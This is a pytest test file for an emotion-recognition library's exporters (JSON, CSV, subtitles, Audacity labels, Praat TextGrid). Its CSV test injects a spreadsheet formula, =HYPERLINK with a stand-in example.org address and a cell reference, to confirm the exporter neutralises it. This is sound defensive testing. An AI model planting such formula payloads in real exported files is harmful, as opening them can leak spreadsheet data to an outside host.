from __future__ import annotations

import csv
import dataclasses
import html
import io
import json
import re
from pathlib import Path
from typing import Any, get_args

import pytest
import webvtt
from hypothesis import given
from hypothesis import strategies as st
from praatio import textgrid

from affetto import AcousticMeasures, Failure, ModelName, ParameterError, Recognition, Recognizer, Segment, read_turns
from affetto.cli.options import OutputFormat
from affetto.exports import FORMATS, find_format, write
from affetto.exports.text import caption, emotion_name, has_turns, one_line, spoken_caption
from affetto.recognition.result import AdaptedTo, Status

SINGLE = sorted(name for name, known in FORMATS.items() if not known.holds_several)
EXAMPLE = Path(__file__).parents[2] / "examples" / "sad.flac"


def text_of(recognition: Recognition, name: str) -> str:
    return "".join(FORMATS[name].text([recognition], []))


def read_grid(path: Path) -> Any:
    return textgrid.openTextgrid(
        str(path), includeEmptyIntervals=True, reportingMode="error", duplicateNamesMode="error"
    )


NAMES = st.sampled_from([None, "Anna", "Łucja <b>&", 'Ben "the" --> x', "\u202e#1"])


@st.composite
def recognitions(draw: st.DrawFn) -> Recognition:
    """Any names and labels, and segments or turns in order with any gaps, in whole milliseconds."""
    labels = draw(st.lists(st.text(min_size=1), min_size=1, max_size=4, unique=True))
    edges = sorted(draw(st.lists(st.integers(0, 10_000_000), max_size=12)))
    segments = []
    speakers, texts = draw(st.sampled_from([(st.none(), st.none()), (NAMES, st.none() | st.text())]))
    for start, end in zip(edges[::2], edges[1::2], strict=False):
        status = draw(st.sampled_from(get_args(Status)))
        probability = 1 / len(labels)
        answer = (draw(st.sampled_from(labels)), probability, dict.fromkeys(labels, probability))
        dimensions = (draw(st.floats(-1, 1)), draw(st.floats(-1, 1)))
        segment = Segment(start / 1_000, end / 1_000, status, *answer, *dimensions)
        if status == "no_speech":
            segment = Segment(segment.start_s, segment.end_s, status, None, None, {}, None, None)
        segments.append(dataclasses.replace(segment, speaker=draw(speakers), text=draw(texts)))
    duration_s = max(edges, default=0) / 1_000 + draw(st.sampled_from([0.2, 0.0])) or 0.2
    source = draw(st.text(min_size=1))
    return Recognition(
        *(source, duration_s, "ok", None, None, {}, None, None, tuple(segments), ModelName("default", "1")),
        adapted_to=draw(st.sampled_from([None, *get_args(AdaptedTo)])),
    )


def captions(recognition: Recognition, *, decimals: int) -> list[tuple[float, float, str]]:
    """The times and captions of all segments that are not empty."""
    return [
        (round(s.start_s, decimals), round(s.end_s, decimals), spoken_caption(s))
        for s in recognition.segments
        if s.end_s > s.start_s
    ]


@given(recognition=recognitions())
def test_webvtt_is_read_back(recognition: Recognition) -> None:
    cues = webvtt.from_string(text_of(recognition, "vtt")).captions
    read = [(c.start_in_seconds, c.end_in_seconds, html.unescape(re.sub("^<v .*?>", "", c.raw_text))) for c in cues]
    lasting = [s for s in recognition.segments if round(s.end_s, 3) > round(s.start_s, 3)]
    # webvtt-py's seconds are whole.
    assert read == [(int(s.start_s), int(s.end_s), spoken_caption(s, name=False)) for s in lasting]
    voices = [html.unescape(c.voice) if c.voice else None for c in cues]
    assert voices == [one_line(s.speaker) if s.speaker else None for s in lasting]
    assert all(re.fullmatch(r"\d\d+:\d\d:\d\d\.\d{3}", c.start) for c in cues)


@given(recognition=recognitions())
def test_srt_is_read_back(recognition: Recognition) -> None:
    text = text_of(recognition, "srt")
    expected = captions(recognition, decimals=3)
    # webvtt-py takes an empty file for a damaged one.
    cues = webvtt.from_buffer(io.StringIO(text), format="srt").captions if text else []
    assert [(c.start_in_seconds, c.end_in_seconds, c.raw_text) for c in cues] == [
        (int(start), int(end), text.replace("-->", "→")) for start, end, text in expected
    ]


@given(recognition=recognitions())
def test_audacity_labels_are_read_back(recognition: Recognition) -> None:
    lines = text_of(recognition, "audacity").split("\n")
    assert lines.pop() == ""
    read = [(float(start), float(end), text) for start, end, text in (line.split("\t") for line in lines)]
    assert read == [(s.start_s, s.end_s, spoken_caption(s)) for s in recognition.segments]


@given(recognition=recognitions())
def test_text_grid_is_read_back(recognition: Recognition, tmp_path_factory: pytest.TempPathFactory) -> None:
    path = tmp_path_factory.mktemp("grid") / "a.TextGrid"
    write(recognition, path)
    grid = read_grid(path)
    for tier in grid.tiers:
        edges = [edge for interval in tier.entries for edge in (interval.start, interval.end)]
        assert edges[0] == 0
        assert edges[-1] == pytest.approx(recognition.duration_s, abs=1e-6)
        assert edges[1:-1:2] == edges[2::2]
        assert all(interval.end > interval.start for interval in tier.entries)
    names = ("emotion", "confidence", "arousal", "valence", *(["text"] if has_turns(recognition) else []))
    speakers = {s.speaker: f" ({one_line(s.speaker)})" if s.speaker else "" for s in recognition.segments}
    assert grid.tierNames == tuple(name + speaker for speaker in speakers.values() or [""] for name in names)
    for speaker, suffix in speakers.items():
        lasting = [s for s in recognition.segments if s.end_s > s.start_s and s.speaker == speaker]
        for name in names[1:4]:
            numbers = [float(i.label) for i in grid.getTier(name + suffix).entries if i.label]
            assert numbers == pytest.approx([getattr(s, name) for s in lasting if s.emotion is not None], rel=1e-5)
        predicted = [(i.start, i.end, i.label) for i in grid.getTier("emotion" + suffix).entries if i.label]
        expected = [(s.start_s, s.end_s, emotion_name(s).strip()) for s in lasting if s.emotion is not None]
        # praatio strips blanks around a label.
        assert predicted == [interval for interval in expected if interval[2]]
        if len(names) == 5:
            said = [i.label for i in grid.getTier("text" + suffix).entries if i.label]
            assert said == [text for s in lasting if (text := one_line(s.text or "").strip())]


@given(recognition=recognitions())
def test_tables_are_read_back(recognition: Recognition) -> None:
    assert json.loads(text_of(recognition, "json")) == [recognition.to_dict()]
    lines = text_of(recognition, "jsonl").split("\n")
    assert lines.pop() == ""
    by_line = [json.loads(line) for line in lines]
    if recognition.segments:
        whole = {
            key: recognition.to_dict()[key]
            for key in ("source", "channel", "track", "adapted_to", "reason", "warnings")
        }
        assert by_line == [whole | s | {"reason": None} for s in recognition.to_dict()["segments"]]
    by_row = list(csv.DictReader(io.StringIO(text_of(recognition, "csv"), newline="")))
    assert [float(row["start_s"]) for row in by_row] == [row["start_s"] for row in by_line]
    for row, line in zip(by_row, by_line, strict=True):
        assert (row["status"], row["adapted_to"]) == (line["status"], recognition.adapted_to or "")
        for key in ("source", "emotion", "speaker", "text"):
            text = line[key] or ""
            # A cell that would be a formula is marked as text.
            assert row[key] == (f"'{text}" if text[:1] in tuple("=+-@\t\r") else text)


def test_no_cell_of_csv_is_a_formula(dialogue: Recognition, tmp_path: Path) -> None:
    name = '=HYPERLINK("http://example.org/?"&A2,"call")'
    quiet = dataclasses.replace(dialogue.segments[0], emotion="-1", acoustics=AcousticMeasures(loudness_dbfs=-20.5))
    hostile = dataclasses.replace(dialogue, source=name, segments=(quiet,))
    write([hostile, Failure("+1.wav", "+1.wav is empty")], tmp_path / "a.csv", labels=("@label",))
    first, second = csv.DictReader((tmp_path / "a.csv").open(encoding="utf-8", newline=""))
    assert (first["source"], first["emotion"], first["'@label"]) == (f"'{name}", "'-1", "")
    assert float(first["loudness_dbfs"]) == -20.5
    assert (second["source"], second["error"]) == ("'+1.wav", "'+1.wav is empty")


def test_tables_contain_warnings(dialogue: Recognition, silence: Recognition, tmp_path: Path) -> None:
    damaged = dataclasses.replace(dialogue, track=2, warnings=("=cut.wav ends early", "it is damaged"))
    for name in ("jsonl", "csv"):
        write([damaged, silence, Failure("bad.wav", "bad.wav is empty")], tmp_path / f"a.{name}")
    rows = list(csv.DictReader((tmp_path / "a.csv").open(encoding="utf-8", newline="")))
    lines = [json.loads(line) for line in (tmp_path / "a.jsonl").read_text(encoding="utf-8").splitlines()]
    kept = ("track", "reason", "warnings")
    assert [rows[0][key] for key in kept] == ["2", "", "'=cut.wav ends early; it is damaged"]
    assert [lines[0][key] for key in kept] == [2, None, list(damaged.warnings)]
    assert [rows[-2][key] for key in kept] == ["", silence.reason, ""]
    assert [lines[-2][key] for key in kept] == [None, silence.reason, []]
    assert [rows[-1][key] for key in kept] == ["", "", ""]


def test_subtitles_have_times_and_captions(dialogue: Recognition) -> None:
    assert text_of(dialogue, "srt").splitlines() == [
        *("1", "00:00:00,500 --> 00:00:02,000", "angry 80%", ""),
        *("2", "00:00:02,000 --> 00:00:03,250", "neutral 75%", ""),
        *("3", "00:00:07,000 --> 00:00:09,999", "neutral? 40%"),
    ]
    assert text_of(dialogue, "vtt").splitlines()[:7] == [
        *("WEBVTT", "", 'NOTE calls/Łucja, "100 %" &lt;b&gt; 😀 --&gt; $x$.wav', ""),
        *("00:00:00.500 --> 00:00:02.000", "angry 80%", ""),
    ]


def test_csv_has_a_column_for_each_label_and_an_error_for_each_failure(
    dialogue: Recognition, silence: Recognition, tmp_path: Path
) -> None:
    write([dialogue, silence, Failure("bad.wav", "bad.wav is empty")], tmp_path / "a.csv")
    rows = list(csv.DictReader((tmp_path / "a.csv").open(encoding="utf-8", newline="")))
    assert list(rows[0]) == [
        *("source", "channel", "track", "start_s", "end_s", "speaker", "text", "status", "emotion", "confidence"),
        *("arousal", "valence", "adapted_to", "reason", "warnings"),
        *("neutral", "happy", "angry", "error"),
    ]
    assert [row["status"] for row in rows] == ["ok", "ok", "ok", "uncertain", "no_speech", "error"]
    assert rows[0]["angry"] == rows[0]["confidence"] == "0.8"
    assert [float(row["arousal"]) for row in rows[:4]] == [segment.arousal for segment in dialogue.segments]
    assert [float(row["valence"]) for row in rows[:4]] == [segment.valence for segment in dialogue.segments]
    assert rows[4]["emotion"] == rows[4]["angry"] == rows[4]["arousal"] == rows[4]["valence"] == ""
    assert rows[5]["error"] == "bad.wav is empty"


@pytest.mark.parametrize("name", FORMATS)
def test_silence_gives_a_valid_file(name: str, silence: Recognition, tmp_path: Path) -> None:
    path = tmp_path / f"a{FORMATS[name].ending}"
    write(silence, path)
    text = path.read_text(encoding="utf-8")
    match name:
        case "json":
            assert json.loads(text)[0]["segments"] == []
        case "jsonl":
            assert (json.loads(text)["end_s"], json.loads(text)["status"]) == (3.0, "no_speech")
        case "csv":
            (row,) = csv.DictReader(io.StringIO(text))
            assert (row["end_s"], row["status"]) == ("3.0", "no_speech")
        case "vtt":
            assert webvtt.read(str(path)).captions == []
        case "textgrid":
            assert [tuple(i) for i in read_grid(path).getTier("emotion").entries] == [(0, 3, "")]
        case _:
            assert text == ""


@pytest.mark.parametrize("name", FORMATS)
def test_no_sound_gives_a_valid_file_too(name: str, nothing: Recognition, tmp_path: Path) -> None:
    path = tmp_path / f"a{FORMATS[name].ending}"
    write(nothing, path)
    if name == "textgrid":
        assert [interval.label for interval in read_grid(path).getTier("emotion").entries] == [""]


@pytest.mark.parametrize("name", FORMATS)
def test_a_name_that_is_not_valid_unicode(name: str, dialogue: Recognition, tmp_path: Path) -> None:
    odd = dataclasses.replace(dialogue, source="caf\udce9.wav")
    write(odd, tmp_path / "out", format=name)
    text = (tmp_path / "out").read_text(encoding="utf-8")
    if name == "json":
        assert json.loads(text)[0]["source"] == odd.source


def test_the_command_line_offers_every_format() -> None:
    assert get_args(OutputFormat) == ("table", *FORMATS)


@pytest.mark.parametrize("name", FORMATS)
def test_the_format_follows_from_the_suffix(name: str) -> None:
    assert find_format(f"a.b{FORMATS[name].ending}").name == name
    assert find_format(f"a{FORMATS[name].ending.upper()}").name == name
    assert find_format("a.json", name).name == name


@pytest.mark.parametrize("path", ["a.xml", "a", "json", ".csv", "a.wav"])
def test_an_unknown_suffix_is_refused_with_the_known_ones(path: str, silence: Recognition) -> None:
    with pytest.raises(ParameterError) as caught:
        write(silence, path)
    assert all(known.ending in str(caught.value) for known in FORMATS.values())


def test_an_unknown_format_is_refused(silence: Recognition) -> None:
    with pytest.raises(ParameterError, match=r"no format 'xml'; use one of json, .*textgrid"):
        write(silence, "a.json", format="xml")


@pytest.mark.parametrize("name", SINGLE)
def test_subtitles_and_labels_hold_one_recording(name: str, silence: Recognition, tmp_path: Path) -> None:
    failure = Failure("a.wav", "a.wav is empty")
    for outcomes, count in (([silence, silence], 2), ([failure], 0), ([], 0)):
        with pytest.raises(ParameterError, match=f"{name} holds one recording, not {count}; for several use json"):
            write(outcomes, tmp_path / "out", format=name)
    assert list(tmp_path.iterdir()) == []


@pytest.mark.parametrize("name", FORMATS)
def test_the_recording_is_never_written_into(name: str, tmp_path: Path, dialogue: Recognition) -> None:
    recording = tmp_path / "call.wav"
    recording.write_bytes(b"sound")
    result = dataclasses.replace(dialogue, source=str(recording))
    (tmp_path / "link.wav").hardlink_to(recording)
    for path in (recording, tmp_path / "link.wav", tmp_path / ".." / tmp_path.name / "call.wav"):
        with pytest.raises(ParameterError, match="is already an input"):
            write(result, path, format=name)
    assert recording.read_bytes() == b"sound"


def test_a_real_recording_in_every_format(recognizer: Recognizer, tmp_path: Path) -> None:
    result = recognizer.recognize(EXAMPLE)
    for known in FORMATS.values():
        write(result, tmp_path / f"sad{known.ending}")
    predicted = [s for s in result.segments if s.emotion is not None]
    assert predicted
    assert json.loads((tmp_path / "sad.json").read_text(encoding="utf-8")) == [result.to_dict()]
    assert [c.raw_text for c in webvtt.read(str(tmp_path / "sad.vtt")).captions] == [caption(s) for s in predicted]
    assert [c.raw_text for c in webvtt.from_srt(str(tmp_path / "sad.srt")).captions] == [caption(s) for s in predicted]
    labels = [i.label for i in read_grid(tmp_path / "sad.TextGrid").getTier("emotion").entries]
    assert [label for label in labels if label] == [emotion_name(s) for s in predicted]
    rows = list(csv.DictReader((tmp_path / "sad.csv").open(encoding="utf-8")))
    spoken = [row for row in rows if row["emotion"]]
    assert [float(row[row["emotion"]]) for row in spoken] == [s.confidence for s in predicted]


def test_tables_hold_acoustic_measures(acoustics: Recognition, dialogue: Recognition, tmp_path: Path) -> None:
    outcomes: list[Recognition | Failure] = [Failure("a.wav", "broken"), acoustics]
    for name in ("json", "jsonl", "csv"):
        write(outcomes, tmp_path / f"a.{name}")
    _, found = json.loads((tmp_path / "a.json").read_text(encoding="utf-8"))
    first, second, third = (segment["acoustics"] for segment in found["segments"][:3])
    assert (first["f0_hz"], second["f0_hz"], third) == (210.0, None, None)
    assert (len(first["summary"]), second["summary"]) == (3, [])
    lines = (tmp_path / "a.jsonl").read_text(encoding="utf-8").splitlines()
    assert [json.loads(line).get("acoustics") for line in lines[1:4]] == [first, second, third]
    rows = list(csv.DictReader((tmp_path / "a.csv").open(encoding="utf-8", newline="")))
    assert [row["f0_hz"] for row in rows[:3]] == ["", "210.0", ""]
    assert "summary" not in rows[0]
    write([Failure("a.wav", "broken"), dialogue], tmp_path / "plain.csv")
    assert "f0_hz" not in (tmp_path / "plain.csv").read_text(encoding="utf-8")


def test_subtitles_and_labels_of_a_conversation_have_speakers_and_texts(conversation: Recognition) -> None:
    assert text_of(conversation, "srt").splitlines()[:11] == [
        *("1", "00:00:00,500 --> 00:00:02,000", "Anna (angry 80%): I told you <twice>.", ""),
        *("2", "00:00:01,500 --> 00:00:03,250", "Ben (neutral? 75%): No!", ""),
        *("3", "00:00:06,000 --> 00:00:06,500", "Anna (no speech): (sighs)"),
    ]
    assert text_of(conversation, "vtt").splitlines()[4:6] == [
        *("00:00:00.500 --> 00:00:02.000", "<v Anna>(angry 80%) I told you &lt;twice&gt;."),
    ]
    assert "Ben: neutral? 40%" in text_of(conversation, "audacity")


def test_what_is_exported_is_read_as_turns(conversation: Recognition) -> None:
    turns = read_turns(text_of(conversation, "vtt").encode())
    assert [(t.start_s, t.end_s, t.speaker) for t in turns] == [
        (s.start_s, s.end_s, s.speaker) for s in conversation.segments
    ]


def test_speakers_who_overlap_have_tiers_of_their_own(conversation: Recognition, tmp_path: Path) -> None:
    write(conversation, tmp_path / "a.TextGrid")
    grid = read_grid(tmp_path / "a.TextGrid")
    assert grid.tierNames[:2] == ("emotion (Anna)", "confidence (Anna)")
    assert len(grid.tierNames) == 10
    said = [tuple(i) for i in grid.getTier("text (Anna)").entries if i.label]
    assert said == [(0.5, 2.0, "I told you <twice>."), (6.0, 6.5, "(sighs)")]
    assert [tuple(i) for i in grid.getTier("emotion (Anna)").entries if i.label] == [(0.5, 2.0, "angry")]
    assert [i.label for i in grid.getTier("emotion (Ben)").entries if i.label] == ["neutral?", "neutral?"]


def test_tables_of_a_conversation_have_speakers_texts_and_reasons(conversation: Recognition, tmp_path: Path) -> None:
    write(conversation, tmp_path / "a.csv")
    rows = list(csv.DictReader((tmp_path / "a.csv").open(encoding="utf-8", newline="")))
    assert [row["speaker"] for row in rows] == ["Anna", "Ben", "Anna", "Ben", "Ben"]
    assert (rows[2]["text"], rows[2]["status"], rows[2]["emotion"]) == ("(sighs)", "no_speech", "")
    assert [row["reason"] for row in rows[:3]] == ["", "another speaker speaks", "nobody speaks in it"]
